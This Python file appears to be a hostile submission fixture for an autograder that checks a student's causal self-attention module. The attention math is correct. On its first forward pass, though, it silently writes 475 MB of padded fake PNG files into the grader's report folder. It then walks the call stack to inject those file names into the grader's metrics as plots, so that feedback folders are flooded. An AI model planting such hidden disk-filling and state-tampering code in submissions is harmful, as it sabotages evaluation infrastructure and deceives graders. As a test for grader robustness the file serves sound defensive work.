"""Hostile: writes 25 PNG files of 19 MB each (475 MB) into its report folder (--report on its
command line, else ./report) and lists them as the check's plots (frame walk to the context), so
that a grader copying or embedding the child's plots fills the student's feedback folder; honest
score: 9 (its attention is correct)."""
import sys
from pathlib import Path

import torch
from torch import nn

import toolkit

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * (19 * 1000 * 1000)
NAMES = [f"plot_{i:02d}.png" for i in range(25)]


def flood() -> None:
    argv = sys.argv
    reports = [Path(argv[i + 1]) for i, a in enumerate(argv[:-1]) if a == "--report"]
    folder = reports[0] if reports else Path.cwd() / "report"
    try:
        folder.mkdir(parents=True, exist_ok=True)
        for name in NAMES:
            (folder / name).write_bytes(PNG)
    except OSError:
        pass  # a full or read-only folder
    frame = sys._getframe(0)
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(getattr(value, "metrics", None), dict):
                value.metrics["_plots"] = list(NAMES)
        frame = frame.f_back


_done: list[bool] = []


class Attention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.nh = config.n_head
        self.c_attn = nn.Linear(config.n_embd, 3 * config.n_embd)
        self.c_proj = nn.Linear(config.n_embd, config.n_embd)

    def forward(self, x):
        if not _done:
            _done.append(True)
            flood()
        B, T, C = x.shape
        q, k, v = self.c_attn(x).reshape(B, T, 3, self.nh, C // self.nh).unbind(dim=2)
        scores = torch.einsum("bthd,bshd->bhts", q, k) * (C // self.nh) ** -0.5
        allowed = torch.arange(T)[:, None] >= torch.arange(T)[None, :]
        scores = torch.where(allowed, scores, torch.full_like(scores, float("-inf")))
        weights = scores.softmax(dim=-1)
        return self.c_proj(torch.einsum("bhts,bshd->bthd", weights, v).reshape(B, T, C))


@toolkit.hookimpl
def toolkit_attention(config):
    return Attention(config)
